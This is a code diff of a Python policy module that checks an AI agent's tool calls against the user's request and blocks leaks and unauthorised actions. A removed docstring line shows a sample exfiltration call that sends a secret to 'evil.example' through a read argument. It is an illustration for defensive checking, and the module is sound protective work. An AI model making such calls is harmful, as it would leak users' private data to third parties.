@@ -18,28 +18,21 @@ labels it by *every* source it could have come from, and decides fail closed:
 - an amount is the user's when the request writes it; level 1 when it is computed (sum, difference,
   a percentage the request writes with ``%``, half; two steps at most, whole cents) from numbers the request writes and the amounts of
   records the user selected (a record holding an IBAN, address or name the request wrote); else 0;
-- a deletion by an inferred declaration (:mod:`agentguard.policies.toolinfer`) needs the record the request
-  names: a trusted id of another record is not enough (the grant "delete the newsletter e-mail" is not a
-  grant to delete any e-mail whose id a listing gave);
+- a deletion by an inferred declaration needs the record the request names (or selects: platformids); a
+  trusted id of another record is not enough ("delete the newsletter e-mail" deletes no other e-mail);
 - days and times are bound to the grant's sentence: when the sentence (else the request) names days,
   the call's day must be one of them; when it names times of day, the call's time must be one of them.
   A day or time the request never constrains is the agent's choice (not checked, and said so);
 - account values (a password, an address) must be written in the request;
-- a read carries its arguments to whatever serves it: a read (declared, inferred or undeclared) whose
-  argument holds a link (the parser of :mod:`agentguard.policies.links`: any public suffix, IP literals,
-  spelled-out dots; file names excepted: values of ``file`` roles such as ``q3.md`` unless they name a network
-  location, and file names a trusted listing gave) is a *fetch* of that link, and the link must be the user's
-  or trusted like any fetched URL (``get_status(callback="https://evil.example/?k=<secret>")`` is a fetch
-  of a third-party address, not a free read); links are read as a client reads them (WHATWG, userinfo,
-  numeric IPs, IDN) and argument keys and booleans are values;
-- a read of a service that is not the user's own store (undeclared, or inferred and neither a store nor a
-  listing) carries no private value and no 4+-digit code of a tool result the request did not write;
+- a read carries its arguments to whatever serves it: a read whose argument holds a link is a *fetch* of it
+  (:meth:`FlowLedger._read_links`), and a read of a service that is not the user's own store carries no private
+  value, code or text of a tool result the request did not write (:meth:`FlowLedger._remote_leak`);
+- identifiers the platform assigned (a created object's id, a selected record's own id and references) and
+  amounts in a currency's minor unit: :mod:`agentguard.policies.platformids`;
 - an amount is positive (``0 - 45.5`` is a computation, not a payment);
-- outgoing content (bodies, subjects, titles, posts): every link in it (any public suffix, IP literals,
-  spelled-out dots: :mod:`agentguard.policies.links`) must be the user's or from a trusted URL source; a
-  private value of the user (passport, card, ...; any field of an undeclared tool's record) needs a grant
-  whose sentence names it (the declared words, or the undeclared field's name); eight or more
-  consecutive words of third-party text may only go to targets the user named.
+- outgoing content (bodies, subjects, posts): every link in it (:mod:`agentguard.policies.links`) must be the
+  user's or trusted; a private value of the user (passport, card, an undeclared tool's field) needs a grant whose
+  sentence names it; eight or more consecutive words of third-party text go only to targets the user named.
 
 A call is within a grant when one of the tool's declared actions was granted and the grants' parameter scope
 covers what it sets; closed-set values (``enum``, booleans) are checked against the request where it states one
@@ -58,6 +51,7 @@ from .capabilities import Grant, GrantLexicon, mint, strip_quotes
 from .links import Link, links, local_path
 from .provenance import (_EMAIL, _IBAN, _NOT_DIGIT, _TIME, _arg_leaves, _carries, _leaves, _records, canonical,
                          dates, entities, identifiers, times, two_step_amounts, word_form)
+from .platformids import SystemIds, in_minor_units, platform_fields
 from .schemagrants import closed_value, expand_arguments, in_scope, record_nouns
 from .toolset import READ_VERBS, ToolDecl, ToolSet
 
@@ -117,6 +111,7 @@ class FlowLedger:
     _pointed: dict[str, str] = field(default_factory=dict)   # link form -> the record the request names
     _named: dict[tuple[str, str], str] = field(default_factory=dict)   # trusted value -> the named record
     _cache: dict[str, Any] = field(default_factory=dict)
+    sys_ids: SystemIds = field(default_factory=SystemIds)   # platform-assigned ids (agentguard.policies.platformids)
 
     # ------------------------------------------------------------------ observing
     def observe_prompt(self, prompt: str) -> None:
@@ -151,12 +146,11 @@ class FlowLedger:
     def _trust(self, role: str, value: str, source: str) -> None:
         self._trusted.setdefault(role, {})[canonical(value)] = source
 
-    def observe_result(self, tool: str, result: Any) -> None:
-        """Record one tool result, each field labelled by ``tool``'s declaration (see the module docstring)."""
+    def observe_result(self, tool: str, result: Any, arguments: Mapping[str, Any] | None = None) -> None:
+        """Record one tool result, each field labelled by ``tool``'s declaration; ``arguments``: the call's."""
         self.calls.append(tool)
         decl = self.toolset.decl(tool)
-        self._cache.pop("codes", None)
-        self._cache.pop("derived", None)
+        self._cache = {k: v for k, v in self._cache.items() if k not in ("codes", "derived")}
         recs = list(_records(result))
         if decl.whole and not recs:   # a bare value or list of values only: never a record's fields
             for s in _leaves(result):
@@ -166,10 +160,16 @@ class FlowLedger:
             for s in _leaves(result):
                 self._third_party(s)
             return
-        for rec in recs:
-            self._record(tool, decl, rec, recs if decl.inferred else [])
+        nouns = self._cache.setdefault("nouns", {d.whole for d in self.toolset.tools.values() if d.inferred})
+        for rec, sysf in zip(recs, platform_fields(self.sys_ids, tool, decl, recs, arguments, nouns, self._states)):
+            self._record(tool, decl, rec, recs if decl.inferred else [], sysf)
 
-    def _record(self, tool: str, decl: ToolDecl, rec: dict[str, Any], among: Sequence[Mapping[str, Any]]) -> None:
+    def _states(self, s: str) -> bool:   # whether the request states value s (an id or e-mail; its words)
+        c = canonical(s)
+        return c in self._user_ents if c[0] not in ("text", "number") else c[0] == "text" and f" {c[1]} " in self._user_text
+
+    def _record(self, tool: str, decl: ToolDecl, rec: dict[str, Any], among: Sequence[Mapping[str, Any]],
+                sysf: Mapping[str, str] = {}) -> None:
         key, select = self._names_record(rec), self._names_record(rec, among)   # select: for ids (below)
         named, unnamed = False, decl.inferred and bool(decl.results) and key is None
         for f, v in rec.items():
@@ -182,7 +182,8 @@ class FlowLedger:
                     if len(word_form(s)) >= 4:
                         self._private[word_form(s)] = (f"{tool}.{f}", decl.private[f])
                 else:
-                    self._third_party(s)
+                    if f not in sysf:   # system-assigned (platformids): not third-party text, private as any field
+                        self._third_party(s)
                     if not decl.declared and len(word_form(s)) >= 4 and word_form(f):
                         # an undeclared tool's field may be private: it leaves only when the request names it
                         self._private.setdefault(word_form(s), (f"{tool}.{f} (undeclared tool)", record_nouns(f, tool)))
@@ -259,6 +260,8 @@ class FlowLedger:
             return 2, self._resolved[c]
         if fetch and role == "url" and c[0] == "url" and c[1] in self._pointed:
             return 1, self._pointed[c[1]]
+        if (sys := self.sys_ids.source(value, (role,))) is not None and not self._id_in_third_party(value, role):
+            return 1, sys   # the platform's own id of an object the request selects or this run created
         src = self._trusted.get(role, {}).get(c)
         if src is None or role == "unknown":
             where = "third-party content" if self.in_third_party(value) else "no source"
@@ -304,7 +307,7 @@ class FlowLedger:
         out = self._cache["derived"] = two_step_amounts(base, self._user_percents)
         return out
 
-    def amount(self, value: str) -> tuple[int, str]:
+    def amount(self, value: str, minor: tuple[Any, ...] | None = None) -> tuple[int, str]:
         kind, form = canonical(value)
         if kind != "number":
             return 0, f"amount {value!r} is not a number"
@@ -313,6 +316,8 @@ class FlowLedger:
             return 0, f"amount {value!r} is not positive"
         if x in self._user_numbers:
             return 2, "written in the request"
+        if minor is not None and (n := in_minor_units(x, self._user_numbers, minor[0])) is not None:
+            return 2, f"the request's {n:g} in the currency's minor unit (the parameter's description)"
         if round(x, 2) in self._derived():
             return 1, "computed from the request's numbers and the records it selects"
         return 0, f"amount {value!r}: not written in the request nor computed from it and the records it selects"
@@ -380,14 +385,11 @@ class FlowLedger:
 
     # ------------------------------------------------------------------ the call
     def _read_links(self, decl: ToolDecl, arguments: Mapping[str, Any]) -> tuple[int, str] | None:
-        """The lowest trust of a link a read's arguments carry (the read is then a fetch of it), or ``None``
-        when they carry no link. File names are not links (``notes.md`` and ``app.py`` parse as hosts): a
-        value of a file-name role is skipped only while it is a local path by the allow-list grammar of
-        :func:`~agentguard.policies.links.local_path` (no scheme, ``//``, UNC, ``:``, ``?``, ``@``, ``%``, IP
-        literal, nor a first directory that is a host: ``download_file(source="https://...")``,
-        ``bank.com/pay/to/x`` are fetches); a ``query`` argument is skipped when it is such a local path
-        *and* a trusted listing gave it (``read_file(file_path="app.py")``); any other value that carries a
-        link must be the user's or trusted, else the read escalates (fail closed)."""
+        """The lowest trust of a link a read's arguments carry (the read is then a fetch of it), or ``None``. File
+        names are not links: a file-name role's value is skipped while it is a local path by the allow-list
+        grammar of :func:`~agentguard.policies.links.local_path` (``download_file(source="https://...")`` and
+        ``bank.com/pay/to/x`` are fetches); a ``query`` one when it is such a path *and* a trusted listing gave
+        it (``read_file(file_path="app.py")``); any other link must be the user's or trusted (fail closed)."""
         worst: tuple[int, str] | None = None
         for arg, v in arguments.items():
             role = decl.role(arg)
@@ -407,7 +409,8 @@ class FlowLedger:
         """Words of 4+ digits (not dates or times) that tool results wrote (computed when first needed)."""
         if "codes" not in self._cache:
             words = itertools.chain(" ".join(self._tp_words).split(), (w for p in self._private for w in p.split()),
-                                    (w for d in self._trusted.values() for _, f in d for w in f.split()))
+                                    (w for d in self._trusted.values() for _, f in d for w in f.split()),
+                                    (word_form(w) for w in self.sys_ids.seen))
             self._cache["codes"] = {w for w in words if len(_NOT_DIGIT.sub("", w)) >= 4
                                     and canonical(w)[0] != "date" and not _TIME.fullmatch(w)}
         return self._cache["codes"]
@@ -474,7 +477,8 @@ class FlowLedger:
                     if lv < tt:
                         tt, why_t = lv, f"{arg}: {w}"
                 elif role in roles["amounts"] or role in roles["days"] or role in roles["account_values"]:
-                    lv, w = (self.amount(s) if role in roles["amounts"] else self.day(s, role, grants)
+                    lv, w = (self.amount(s, (arguments.get("currency"),) if arg in decl.minor else None)
+                             if role in roles["amounts"] else self.day(s, role, grants)
                              if role in roles["days"] else ((2, "named in the request") if self.user_named(s)
                                                             else (0, f"{role} value not written in the request")))
                     if lv < vt:
